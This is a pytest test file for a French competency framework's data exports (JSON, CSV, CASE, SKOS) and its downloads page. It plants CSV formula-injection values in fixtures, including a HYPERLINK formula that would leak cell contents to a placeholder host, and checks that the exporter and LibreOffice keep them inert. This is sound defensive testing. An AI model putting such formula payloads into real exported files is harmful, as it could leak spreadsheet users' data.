"""The data exports (/donnees/): JSON against its schema, CSV through LibreOffice, nothing lost,
the same bytes from the same sources, hostile text kept as text, the downloads page."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import uuid
from collections.abc import Iterator
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from helpers import FIXTURE, REPO, build, check, fixture, make_project, run_referentiel
from referentiel import downloads, export_case, export_csv, export_json, export_skos, routes, siteconfig
from referentiel.load import load_framework
from referentiel.model import Framework

CSV_TABLES = {
    "domaines", "missions", "niveaux", "competences", "descripteurs", "roles", "exigences", "parcours", "ecarts",
    "formations", "couverture-formations", "glossaire", "faux-amis",
}
#: Planted in the fixture's sources: each starts as a spreadsheet formula would.
HOSTILE = {
    "title": '=HYPERLINK("http://example.invalid/?"&A1;"clic")',
    "summary": "+1+2",
    "description": "-3+4\nsuite ; « guillemets » \"doubles\"",
    "term_short": "@SUM(1;2)",
}


#: The site's address, as mkdocs.yml gives it: it names the SKOS concepts.
SITE = siteconfig.site_url_of(REPO) or ""


@pytest.fixture(scope="module")
def content() -> Framework:
    return load_framework(REPO)


def _hostile_project(target: Path) -> Path:
    project = make_project(target)
    path = project / "competencies" / "piloter-budget.yml"
    text = path.read_text("utf-8")
    text = text.replace("title: Piloter le budget d’une opération", f"title: {json.dumps(HOSTILE['title'])}")
    summary = f"summary: {json.dumps(HOSTILE['summary'])}"
    text = text.replace("summary: Tenir l’enveloppe financière prévisionnelle.", summary)
    description = f"description: {json.dumps(HOSTILE['description'], ensure_ascii=False)}"
    text = re.sub(r"^description: .*$", lambda _: description, text, flags=re.MULTILINE)
    path.write_text(text, "utf-8")
    term = next((project / "glossary").glob("*.yml"))
    short = f"short: {json.dumps(HOSTILE['term_short'])}"
    term.write_text(re.sub(r"^short: .*$", lambda _: short, term.read_text("utf-8"), flags=re.MULTILINE), "utf-8")
    return project


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Framework:
    framework = load_framework(_hostile_project(tmp_path_factory.mktemp("hostile") / "project"))
    assert framework.competencies["piloter-budget"].title == HOSTILE["title"]
    return framework


def _schema() -> dict[str, Any]:
    schema: dict[str, Any] = json.loads((REPO / "referentiel" / export_json.SCHEMA_FILE).read_text("utf-8"))
    return schema


@pytest.mark.parametrize("which", ["content", "hostile", "mini", "partial"])
def test_the_json_validates_against_its_schema(which: str, request: pytest.FixtureRequest) -> None:
    """Our content, hostile text, the mini fixture, and the partial one (named scales, several
    domains, levels and descriptors left out)."""
    if which in ("mini", "partial"):
        framework = load_framework(FIXTURE if which == "mini" else FIXTURE.parent / "partial")
    else:
        framework = request.getfixturevalue(which)
    schema = _schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    data = json.loads(export_json.dumps(export_json.document(framework)))
    errors = [f"{e.json_path}: {e.message}" for e in jsonschema.Draft202012Validator(schema).iter_errors(data)]
    assert errors == []


def test_the_schema_refuses_what_it_should() -> None:
    """The schema is not a blank check: a missing field, an extra one, a bad id are refused."""
    data = json.loads(export_json.dumps(export_json.document(load_framework(FIXTURE))))
    validator = jsonschema.Draft202012Validator(_schema())
    broken = json.loads(json.dumps(data))
    del broken["competencies"][0]["levels"]
    broken["roles"][0]["extra"] = 1
    broken["glossary"][0]["id"] = "Pas un identifiant"
    assert len(list(validator.iter_errors(broken))) == 3


def test_the_json_holds_every_entity(content: Framework) -> None:
    """Nothing lost: every entity of every kind, every descriptor, requirement, coverage, gap line."""
    fw = content
    data = json.loads(export_json.dumps(export_json.document(fw)))
    assert (data["version"], data["date"]) == (fw.journal[0].version, fw.journal[0].date)
    ids = {kind: [item["id"] for item in data[kind]] for kind in (
        "domains", "missions", "competencies", "roles", "paths", "trainings", "glossary", "deliverables")}
    assert ids["domains"] == list(fw.domains)
    assert ids["missions"] == list(fw.missions)
    assert ids["competencies"] == list(fw.competencies)
    assert ids["roles"] == list(fw.roles)
    assert ids["paths"] == [p.id for p in fw.career_paths]
    assert ids["trainings"] == list(fw.trainings)
    assert ids["glossary"] == list(fw.terms)
    assert ids["deliverables"] == [d.id for d in fw.published] and len(fw.published) > 0
    assert [v["version"] for v in data["journal"]] == [v.version for v in fw.journal]
    assert fw.scale is not None
    assert [lv["level"] for lv in data["scale"]["levels"]] == [lv.number for lv in fw.scale.levels]
    for item in data["competencies"]:
        competency = fw.competencies[item["id"]]
        assert {lv["level"]: lv["descriptor"] for lv in item["levels"]} == dict(competency.levels)
        assert (item["title"], item["description"], item["esco"]) == (
            competency.title, competency.description, list(competency.esco))
    for item in data["roles"]:
        role = fw.roles[item["id"]]
        assert [(q["competency"], q["level"], q["importance"]) for q in item["requirements"]] == [
            (q.competency, q.level, q.importance) for q in role.requirements]
    gap_lines = 0
    for item, path in zip(data["paths"], fw.career_paths, strict=True):
        gaps = fw.gap(fw.roles[path.origin], fw.roles[path.target])
        assert [(g["competency"], g["now"], g["required"], g["trainings"]) for g in item["gaps"]] == [
            (g.competency.id, g.now, g.required, [t.id for t in g.trainings]) for g in gaps]
        gap_lines += len(gaps)
    assert gap_lines > 0
    for item in data["glossary"]:
        term = fw.terms[item["id"]]
        assert item["english"] == list(term.english)
        friends = [(f.term, f.reason) for f in term.false_friends]
        assert [(f["term"], f["reason"]) for f in item["false_friends"]] == friends
    assert sum(len(t["covers"]) for t in data["trainings"]) == sum(len(t.covers) for t in fw.trainings.values())


def test_the_csv_tables_hold_every_entity(content: Framework) -> None:
    fw = content
    tables = {t.name: t for t in export_csv.tables(export_json.document(fw))}
    assert set(tables) == CSV_TABLES
    assert fw.scale is not None
    expected = {
        "domaines": len(fw.domains), "missions": len(fw.missions), "niveaux": len(fw.scale.levels),
        "competences": len(fw.competencies), "descripteurs": sum(len(c.levels) for c in fw.competencies.values()),
        "roles": len(fw.roles), "exigences": sum(len(r.requirements) for r in fw.roles.values()),
        "parcours": len(fw.career_paths),
        "ecarts": sum(len(fw.gap(fw.roles[p.origin], fw.roles[p.target])) for p in fw.career_paths),
        "formations": len(fw.trainings), "couverture-formations": sum(len(t.covers) for t in fw.trainings.values()),
        "glossaire": len(fw.terms), "faux-amis": sum(len(t.false_friends) for t in fw.terms.values()),
    }
    for name, count in expected.items():
        assert count > 0, name
        assert len(tables[name].rows) == count, name
        # and the file holds them: parsed back as Python reads CSV
        rows = list(csv.reader(export_csv.to_csv(tables[name]).decode("utf-8-sig").splitlines(keepends=True),
                               delimiter=";"))
        assert rows[0] == list(tables[name].columns) and len(rows) == count + 1, name
    assert [row[0] for row in tables["competences"].rows] == list(fw.competencies)
    assert [row[0] for row in tables["glossaire"].rows] == list(fw.terms)


def test_the_exports_are_the_same_bytes_every_time(content: Framework) -> None:
    """Same sources → same bytes: a second load and export changes nothing."""
    first = {f.path: f.content for f in downloads.files(content, SITE)}
    again = {f.path: f.content for f in downloads.files(load_framework(REPO), SITE)}
    assert first == again


def test_hostile_text_stays_text(hostile: Framework) -> None:
    """The JSON keeps the text exactly; a CSV cell that would start a formula starts with « ' »."""
    document = export_json.document(hostile)
    data = json.loads(export_json.dumps(document))
    competency = next(c for c in data["competencies"] if c["id"] == "piloter-budget")
    assert (competency["title"], competency["summary"], competency["description"]) == (
        HOSTILE["title"], HOSTILE["summary"], HOSTILE["description"])
    tables = {t.name: t for t in export_csv.tables(document)}
    text = export_csv.to_csv(tables["competences"]).decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(text.splitlines(keepends=True), delimiter=";")}
    row = dict(zip(tables["competences"].columns, rows["piloter-budget"], strict=True))
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["summary"] == "'" + HOSTILE["summary"]
    assert row["description"] == "'" + HOSTILE["description"]
    glossary = export_csv.to_csv(tables["glossaire"]).decode("utf-8-sig")
    assert '"\'' + HOSTILE["term_short"] + '"' in glossary
    for table in tables.values():
        for cells in table.rows:
            for cell in cells:
                if isinstance(cell, str):
                    assert not export_csv.neutralise(cell).startswith(export_csv.FORMULA_STARTS)


# --- LibreOffice -------------------------------------------------------------------------------

#: Import: « ; », « " », charset left to the file (its BOM), from line 1, quoted cells as text.
LO_IMPORT = "CSV:59,34,,1,,0,true"
#: The control: what a careless import does (no quoted-as-text, formulas evaluated).
LO_CARELESS = "CSV:59,34,,1,,0,false,false,false,false,false,-1,true"
#: Export back: « ; », « " », UTF-8, every text cell quoted.
LO_EXPORT = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,true,true"


def _soffice(folder: Path, infilter: str, out: Path) -> None:
    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None:  # as the browser tests: skipped and said outside CI, failed in CI
        reason = "LibreOffice is missing: apt-get install libreoffice-calc (or run .ci/run as root)"
        if os.environ.get("CI") == "true":
            pytest.fail(f"{reason} (CI=true: the LibreOffice test must run)", pytrace=False)
        pytest.skip(reason)
    files = sorted(str(path) for path in folder.glob("*.csv"))
    subprocess.run(
        [binary, f"-env:UserInstallation=file://{out.parent / 'lo-profile'}", "--headless", f"--infilter={infilter}",
         "--convert-to", LO_EXPORT, "--outdir", str(out), *files],
        check=True, capture_output=True, timeout=300,
    )


def _read_back(path: Path) -> list[list[str]]:
    return list(csv.reader(path.read_text("utf-8").splitlines(keepends=True), delimiter=";"))


def _expected(cell: export_csv.Cell) -> str:
    return "" if cell is None else str(cell) if isinstance(cell, int) else export_csv.neutralise(cell)


@pytest.fixture(scope="module")
def libreoffice(content: Framework, hostile: Framework, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every CSV of our référentiel and of the hostile project, converted in one LibreOffice run."""
    tmp = tmp_path_factory.mktemp("lo")
    folder = tmp / "in"
    folder.mkdir()
    for prefix, framework in (("", content), ("hostile-", hostile)):
        for file in downloads.files(framework, SITE):
            if file.path.endswith(".csv"):
                (folder / f"{prefix}{file.name}").write_bytes(file.content)
    _soffice(folder, LO_IMPORT, tmp / "out")
    return tmp / "out"


def test_libreoffice_reads_every_cell_back(content: Framework, libreoffice: Path) -> None:
    """Accents, « ; » and line breaks inside cells, numbers as numbers: each cell as the model holds it."""
    tables = export_csv.tables(export_json.document(content))
    assert {path.stem for path in libreoffice.glob("*.csv") if not path.stem.startswith("hostile-")} == CSV_TABLES
    for table in tables:
        rows = _read_back(libreoffice / f"{table.name}.csv")
        assert rows[0] == list(table.columns), table.name
        assert rows[1:] == [[_expected(cell) for cell in cells] for cells in table.rows], table.name
    competencies = {row[0]: row for row in _read_back(libreoffice / "competences.csv")[1:]}
    for competency in content.competencies.values():
        assert competencies[competency.id][1] == competency.title
        assert competencies[competency.id][6] == competency.description
        assert competencies[competency.id][7] == "\n".join(competency.missions)
    descriptors = _read_back(libreoffice / "descripteurs.csv")[1:]
    assert [(row[0], int(row[1]), row[2]) for row in descriptors] == [
        (c.id, number, text) for c in content.competencies.values() for number, text in c.levels.items()]
    english = {row[0]: row[6] for row in _read_back(libreoffice / "glossaire.csv")[1:]}
    assert english == {t.id: "\n".join(t.english) for t in content.terms.values()}
    text = "".join(path.read_text("utf-8") for path in libreoffice.glob("*.csv"))
    assert "é" in text and "’" in text and "Ã" not in text, "accents read as UTF-8"
    assert any("\n" in cell for row in descriptors + list(competencies.values()) for cell in row) or any(
        "\n" in v for v in english.values()), "a line break inside a cell"


def test_libreoffice_runs_no_formula(hostile: Framework, libreoffice: Path, tmp_path: Path) -> None:
    rows = {row[0]: row for row in _read_back(libreoffice / "hostile-competences.csv")}
    assert rows["piloter-budget"][1] == "'" + HOSTILE["title"]
    assert rows["piloter-budget"][5] == "'" + HOSTILE["summary"]
    assert rows["piloter-budget"][6] == "'" + HOSTILE["description"]
    # Even a careless import (cells not taken as text, formulas evaluated) runs none of them …
    folder = tmp_path / "in"
    folder.mkdir()
    tables = {t.name: t for t in export_csv.tables(export_json.document(hostile))}
    (folder / "neutralised.csv").write_bytes(export_csv.to_csv(tables["competences"]))
    # … while the same cell left as it is would run: the control.
    (folder / "raw.csv").write_bytes(b'\xef\xbb\xbf"title"\r\n"=1+1"\r\n')
    _soffice(folder, LO_CARELESS, tmp_path / "out")
    careless = {row[0]: row for row in _read_back(tmp_path / "out" / "neutralised.csv")}
    assert careless["piloter-budget"][1] == "'" + HOSTILE["title"]
    assert careless["piloter-budget"][5] == "'" + HOSTILE["summary"]
    assert _read_back(tmp_path / "out" / "raw.csv")[1] == ["2"]


# --- the site ----------------------------------------------------------------------------------


class _Ids(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.ids: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.ids |= {value for name, value in attrs if name == "id" and value}


def _pages(data: Any) -> Iterator[str]:
    if isinstance(data, dict):
        for key, value in data.items():
            if key == "page" and isinstance(value, str):
                yield value
            else:
                yield from _pages(value)
    elif isinstance(data, list):
        for item in data:
            yield from _pages(item)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = make_project(tmp_path_factory.mktemp("built") / "project")
    run = build(project)
    assert run.code == 0, run.output
    return project


def test_every_page_url_of_the_json_is_on_the_site(built: Path) -> None:
    site = built / "site"
    data = json.loads((site / "donnees" / "referentiel.json").read_text("utf-8"))
    pages = list(_pages(data))
    assert len(pages) > 20
    ids: dict[str, set[str]] = {}
    for page in pages:
        folder, _, anchor = page.partition("#")
        html = site / folder / "index.html"
        assert html.is_file(), page
        if anchor:
            if folder not in ids:
                parser = _Ids()
                parser.feed(html.read_text("utf-8"))
                ids[folder] = parser.ids
            assert anchor in ids[folder], page


def test_the_build_publishes_the_files_and_lists_them_with_their_size(built: Path) -> None:
    site = built / "site"
    framework = load_framework(built)
    every = {f.path: f.content for f in downloads.files(framework, SITE)}
    assert _files(site / "donnees") == {path.removeprefix("donnees/") for path in every} | {"index.html"}
    for path, content in every.items():
        assert (site / path).read_bytes() == content, path
    page = (site / "donnees" / "index.html").read_text("utf-8")
    listed = [f.name for f in downloads.files(framework, SITE) if f.listed]
    assert {"referentiel.skos.jsonld", "referentiel.skos.ttl"} < set(listed)
    for name in listed:
        row = re.search(rf'<tr>\s*<td><a href="{re.escape(name)}">.*?</tr>', page, re.DOTALL)
        assert row, name
        size = (site / "donnees" / name).stat().st_size
        shown = re.search(r"([\d\u00a0]+)\u00a0octets", row.group())
        assert shown and int(shown.group(1).replace("\u00a0", "")) == size, name
    version = framework.journal[0]
    assert f"Version\u00a0: {version.version} du {version.date}" in page  # French spacing by the build
    assert "licence\u00a0: non précisée" in page.lower() and "MIT" in page
    assert 'href="donnees/"' in (site / "index.html").read_text("utf-8"), "in the navigation"


def test_two_builds_give_the_same_exports(built: Path, tmp_path: Path) -> None:
    """A second build of the same sources, and `referentiel generate`, write byte-identical files."""
    first = _contents(built / "site" / "donnees")
    assert {"referentiel.skos.jsonld", "referentiel.skos.ttl", "competences/piloter-budget.json"} < first.keys()
    again = make_project(tmp_path / "again")
    assert build(again).code == 0
    second = _contents(again / "site" / "donnees")
    assert first == second
    run = run_referentiel(again, "generate", "--out", str(tmp_path / "generated"))
    assert run.code == 0, run.output
    generated = _contents(tmp_path / "generated" / "donnees")
    assert generated.keys() == {*first} - {"index.html"} | {"index.md"}
    assert all(generated[name] == content for name, content in first.items() if name != "index.html")


def _files(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}


def _contents(folder: Path) -> dict[str, bytes]:
    return {name: (folder / name).read_bytes() for name in _files(folder)}


def test_the_route_is_known() -> None:
    """/donnees/ is a fixed page of the site: a hand-written docs/donnees/index.md is refused."""
    assert routes.DATA in routes.FIXED
    assert downloads.page(load_framework(FIXTURE), [], SITE).path == routes.DATA


# --- CASE 1.1 ----------------------------------------------------------------------------------


def _case(framework: Framework) -> dict[str, Any]:
    package: dict[str, Any] = json.loads(export_json.dumps(export_case.package(export_json.document(framework))))
    return package


@pytest.mark.parametrize("which", ["content", "hostile"])
def test_the_case_package_is_valid_against_the_official_schema(which: str, request: pytest.FixtureRequest) -> None:
    schema = json.loads(fixture("standards/case-v1p1-cfpackage-schema.json").read_text("utf-8"))
    package = _case(request.getfixturevalue(which))
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    assert [f"{e.json_path}: {e.message}" for e in validator.iter_errors(package)] == []
    # The formats jsonschema cannot check without extra packages (uri, date-time), checked here.
    for node in _walk(package):
        for key in ("uri", "originNodeURI", "destinationNodeURI", "CFItemURI"):
            value = node.get(key)
            uri = value["uri"] if isinstance(value, dict) else value
            if uri is not None:
                assert re.fullmatch(r"urn:uuid:[0-9a-f-]{36}|https?://\S+", uri), uri
        if "lastChangeDateTime" in node:
            assert datetime.fromisoformat(node["lastChangeDateTime"]).tzinfo is not None


def _walk(data: Any) -> Iterator[dict[str, Any]]:
    if isinstance(data, dict):
        yield data
        for value in data.values():
            yield from _walk(value)
    elif isinstance(data, list):
        for item in data:
            yield from _walk(item)


def test_the_case_package_holds_every_entity(content: Framework) -> None:
    fw = content
    package = _case(fw)
    items = {(item["CFItemType"], item["humanCodingScheme"]): item for item in package["CFItems"]}
    assert len(items) == len(package["CFItems"]) == len(fw.domains) + len(fw.competencies) + len(fw.roles)
    for kind, ids in (("Domaine", fw.domains), ("Compétence", fw.competencies), ("Rôle", fw.roles)):
        for entity_id in ids:
            assert (kind, entity_id) in items, (kind, entity_id)
    for competency in fw.competencies.values():
        assert items["Compétence", competency.id]["fullStatement"] == competency.title
    by_type: dict[str, list[tuple[str, str]]] = {}
    for association in package["CFAssociations"]:
        pair = (association["originNodeURI"]["identifier"], association["destinationNodeURI"]["identifier"])
        by_type.setdefault(association["associationType"], []).append(pair)
    case = export_case.identifier
    assert sorted(by_type["isChildOf"]) == sorted(
        [(case("domain", d), case("document", "referentiel")) for d in fw.domains]
        + [(case("competency", c.id), case("domain", c.domain)) for c in fw.competencies.values()]
        + [(case("role", r), case("document", "referentiel")) for r in fw.roles])
    assert sorted(by_type["isRelatedTo"]) == sorted(
        (case("competency", c.id), case("competency", o)) for c in fw.competencies.values() for o in c.related)
    assert sorted(by_type["exactMatchOf"]) == sorted(
        (case("competency", c.id), uri) for c in fw.competencies.values() for uri in c.esco)
    assert len(by_type["exactMatchOf"]) > 0
    assert sorted(by_type["ext:requires"]) == sorted(
        (case("role", r.id), case("competency", q.competency)) for r in fw.roles.values() for q in r.requirements)
    criteria = package["CFRubrics"][0]["CFRubricCriteria"]
    assert [c["CFItemURI"]["identifier"] for c in criteria] == [case("competency", c) for c in fw.competencies]
    assert [[(lv["score"], lv["description"]) for lv in c["CFRubricCriterionLevels"]] for c in criteria] == [
        list(c.levels.items()) for c in fw.competencies.values()]
    identifiers = [node["identifier"] for node in _walk(package) if "lastChangeDateTime" in node]
    assert len(identifiers) == len(set(identifiers)), "every identifier once"


def test_case_identifiers_are_uuid5_of_the_ids() -> None:
    """The same id always gives the same identifier (a UUIDv5 in the package's fixed namespace)."""
    namespace = uuid.uuid5(uuid.NAMESPACE_URL, "https://institut-imoa.github.io/referentiel-moa/case")
    expected = str(uuid.uuid5(namespace, "competency:piloter-budget"))
    assert export_case.identifier("competency", "piloter-budget") == expected
    assert uuid.UUID(export_case.identifier("role", "x")).version == 5
    mini = _case(load_framework(FIXTURE))
    assert mini["CFDocument"]["identifier"] == _case(load_framework(FIXTURE))["CFDocument"]["identifier"]
    budget = next(i for i in mini["CFItems"] if i["humanCodingScheme"] == "piloter-budget")
    assert budget["identifier"] == export_case.identifier("competency", "piloter-budget")


def test_a_hand_written_file_in_the_data_folder_is_refused(tmp_path: Path) -> None:
    """The build would replace docs/donnees/referentiel.json by the export without a word: check
    and the strict build refuse it, with where and what to do."""
    project = make_project(tmp_path / "project")
    (project / "docs" / "donnees").mkdir()
    (project / "docs" / "donnees" / "referentiel.json").write_text('{"faux": true}', "utf-8")
    expected = (
        "docs/donnees/referentiel.json:1:1: fichier dans donnees/, le dossier des données que le référentiel écrit"
        " — déplacez-le dans un autre dossier de docs/ : les fichiers de données sont générés"
    )
    for run in (check(project), build(project)):
        assert run.code == 1 and "Traceback" not in run.output, run.output
        assert expected in run.output.splitlines(), run.output
    assert not (project / "site" / "donnees").exists()


# --- each entity's own data, linked from its page --------------------------------------------


class _DataLinks(HTMLParser):
    """The « Données » links of a page's article: (href, id of the section they are in)."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[tuple[str, str]] = []
        self.section = ""
        self._in_data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag in ("h2", "h3") and attributes.get("id"):
            self.section = attributes["id"] or ""
        if tag == "p" and attributes.get("class") == "rf-data":
            self._in_data = True
        elif tag == "a" and self._in_data:
            self.links.append((attributes.get("href") or "", self.section))

    def handle_endtag(self, tag: str) -> None:
        if tag == "p":
            self._in_data = False


def _data_links(html: Path) -> list[tuple[str, str]]:
    parser = _DataLinks()
    parser.feed(html.read_text("utf-8"))
    return parser.links


def test_every_entity_page_links_to_its_own_data(built: Path) -> None:
    """Each page of a domain, mission, competency, role, path, training, term or deliverable has one
    « Données » link (a domain or a term, in its section of the listing), to a file of the site
    holding that entity as the JSON document does, with the version."""
    site = built / "site"
    document = json.loads((site / routes.DATA_JSON).read_text("utf-8"))
    checked = 0
    for kind in routes.ENTITY_DATA_FOLDERS:
        assert document[kind], kind
        for item in document[kind]:
            folder, _, anchor = item["page"].partition("#")
            links = _data_links(site / folder / "index.html")
            if anchor:  # a section of a listing: the link in that section
                links = [(href, section) for href, section in links if section == anchor]
            assert len(links) == 1, (kind, item["id"], links)
            target = (site / folder / links[0][0]).resolve()
            assert target == (site / routes.entity_data(kind, item["id"])).resolve()
            data = json.loads(target.read_text("utf-8"))
            assert data == {"format": document["format"], "version": document["version"], "date": document["date"],
                            "kind": kind, "entity": item}
            checked += 1
    assert checked == sum(len(document[kind]) for kind in routes.ENTITY_DATA_FOLDERS) >= 20


def test_the_downloads_follow_the_framework_version(tmp_path: Path) -> None:
    """A new version in framework/journal.yml: every file that states a version states it, and the
    downloads page too; the files that do not (the CSV tables, the schema) are the same bytes."""
    project = make_project(tmp_path / "project")
    before = load_framework(project)
    old = {f.path: f.content for f in downloads.files(before, SITE)}
    journal = project / "framework" / "journal.yml"
    entry = '  - version: "9.9"\n    date: "2031-02-03"\n    summary: Une version de test.\n'
    entry += "    changes:\n      - Rien.\n"
    journal.write_text(journal.read_text("utf-8").replace("versions:\n", "versions:\n" + entry, 1), "utf-8")
    assert build(project).code == 0
    site = project / "site"
    assert json.loads((site / routes.DATA_JSON).read_text("utf-8"))["version"] == "9.9"
    case = json.loads((site / "donnees" / "referentiel.case.json").read_text("utf-8"))["CFDocument"]
    assert (case["version"], case["statusStartDate"]) == ("9.9", "2031-02-03")
    skos = (site / "donnees" / "referentiel.skos.ttl").read_text("utf-8")
    assert skos.count('owl:versionInfo "9.9"') == skos.count("owl:versionInfo") > 0
    assert skos.count('"2031-02-03"^^xsd:date') == skos.count("dcterms:modified") > 0
    for path in _files(site / "donnees"):
        if path.endswith(".json") and "/" in path:
            assert json.loads((site / "donnees" / path).read_text("utf-8"))["version"] == "9.9", path
    page = (site / "donnees" / "index.html").read_text("utf-8")
    assert "Version\u00a0: 9.9 du 2031-02-03" in page
    for path, content in old.items():
        if path.endswith((".csv", ".schema.json")):
            assert (site / path).read_bytes() == content, path
        else:
            assert (site / path).read_bytes() != content, path


def test_every_entity_is_in_every_export_that_carries_its_kind(content: Framework) -> None:
    """Nothing lost, export by export: the ids of each kind in the JSON, its CSV table, the CASE
    package, the SKOS graph and the entities' own files are the model's, all of them."""
    fw = content
    assert fw.scale is not None
    model = {
        "domains": list(fw.domains), "missions": list(fw.missions), "competencies": list(fw.competencies),
        "roles": list(fw.roles), "paths": [p.id for p in fw.career_paths], "trainings": list(fw.trainings),
        "glossary": list(fw.terms), "deliverables": [d.id for d in fw.published],
        "levels": [str(level.number) for level in fw.scale.levels],
    }
    files = {f.path: f.content for f in downloads.files(fw, SITE)}
    data = json.loads(files[routes.DATA_JSON])
    json_ids = {kind: [item["id"] for item in data[kind]] for kind in routes.ENTITY_DATA_FOLDERS}
    json_ids["levels"] = [str(level["level"]) for level in data["scale"]["levels"]]
    csv_names = {"domains": "domaines", "missions": "missions", "competencies": "competences", "roles": "roles",
                 "paths": "parcours", "trainings": "formations", "glossary": "glossaire", "levels": "niveaux"}
    csv_ids = {kind: [row[0] for row in csv.reader(
        files[f"donnees/{name}.csv"].decode("utf-8-sig").splitlines(keepends=True), delimiter=";")][1:]
        for kind, name in csv_names.items()}
    case_types = {"domains": "Domaine", "competencies": "Compétence", "roles": "Rôle"}
    case = json.loads(files["donnees/referentiel.case.json"])
    case_ids = {kind: [i["humanCodingScheme"] for i in case["CFItems"] if i["CFItemType"] == kind_type]
                for kind, kind_type in case_types.items()}
    case_ids["levels"] = sorted({str(lv["score"]) for c in case["CFRubrics"][0]["CFRubricCriteria"]
                                 for lv in c["CFRubricCriterionLevels"]})
    nodes = {n.iri: n for n in export_skos.graph(data, SITE)}

    def notations(scheme: str) -> list[str]:
        return [next(v.text for p, v in n.properties if p == "skos:notation" and isinstance(v, export_skos.Literal))
                for n in nodes.values() if ("skos:inScheme", export_skos.IRI(SITE + scheme)) in n.properties]

    competencies = notations(routes.page_url(routes.COMPETENCIES))
    skos_ids = {
        "domains": [c for c in competencies if c in fw.domains], "competencies": [c for c in competencies
                                                                                   if c in fw.competencies],
        "glossary": notations(routes.page_url(routes.GLOSSARY)), "levels": notations(routes.page_url(routes.SCALE)),
    }
    own = {kind: [path.rpartition("/")[2].removesuffix(".json") for path in files
                  if path.startswith(f"donnees/{folder}/")] for kind, folder in routes.ENTITY_DATA_FOLDERS.items()}
    for export, ids in (("JSON", json_ids), ("CSV", csv_ids), ("CASE", case_ids), ("SKOS", skos_ids),
                        ("own files", own)):
        for kind, found in ids.items():
            assert model[kind], kind
            assert sorted(found) == sorted(model[kind]), (export, kind)
